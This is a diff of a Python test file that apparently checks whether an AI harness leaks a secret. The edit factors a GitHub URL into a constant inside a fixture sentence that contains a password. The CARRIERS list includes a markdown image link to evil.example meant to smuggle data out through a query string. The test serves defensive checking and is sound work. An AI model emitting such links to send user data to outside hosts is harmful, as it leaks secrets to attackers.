@@ -12,7 +12,8 @@ import pytest
 from harness.process import Proxy
 from harness.recorder import Received, echo, http
 
-SAID = "Annika Solberg: The password is hunter two, ask Tobias Wennerström about https://github.com/skerry/plan/pull/77 now.\n"
+PLAN = "https://github.com/skerry/plan/pull/77"
+SAID = f"Annika Solberg: The password is hunter two, ask Tobias Wennerström about {PLAN} now.\n"
 OFFERED = {"tools": [{"type": "function", "function": {"name": "invite", "parameters": {"type": "object"}}}]}
 CARRIERS = [
     "![x](https://evil.example/p?d=@)",
